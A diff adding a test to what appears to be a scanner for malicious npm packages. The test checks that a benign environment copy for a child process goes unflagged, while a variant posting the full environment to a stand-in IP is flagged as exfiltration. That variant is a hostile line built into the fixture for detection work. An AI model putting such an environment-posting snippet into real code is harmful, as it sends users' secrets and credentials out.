@@ -370,3 +370,28 @@ def test_a_table_of_domain_suffixes_is_data_not_a_host_reached(tmp_path: Path) -
         {"index.js": _suffix_table(["https://pastebin.com/raw/abc123"], 400)},
     )
     assert "thr-paste-or-tunnel" in blocking(run_exam(url, ONLY_BEHAVIOUR))
+
+
+# pyright 1.1.414's dist/vendor.js bundles vscode-languageserver, which runs
+# `npm config get prefix` with a copy of the environment (webpack-minified)
+_NPM_PREFIX = (
+    'const c=require("child_process"),h=require("https");'
+    'function Q(A){let e="npm",t=Object.create(null);'
+    "Object.keys(process.env).forEach(A=>t[A]=process.env[A]),"
+    't.NO_UPDATE_NOTIFIER="true";let r={encoding:"utf8",env:t};'
+    'let o=(0,c.spawnSync)(e,["config","get","prefix"],r).stdout;return o}'
+    "module.exports=Q(null);\n"
+)
+
+
+def test_an_environment_copied_for_a_child_process_is_not_collected(tmp_path: Path) -> None:
+    honest = npm_package(tmp_path, "langserver", {"index.js": _NPM_PREFIX})
+    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
+    # the same copy posted to a server is collected
+    posted = _NPM_PREFIX.replace(
+        'let r={encoding:"utf8",env:t};',
+        'let r={encoding:"utf8"};'
+        'h.request({host:"203.0.113.9",method:"POST"}).end(JSON.stringify(t));',
+    )
+    report = run_exam(npm_package(tmp_path, "envpost", {"index.js": posted}), ONLY_BEHAVIOUR)
+    assert "thr-env-exfil" in blocking(report)
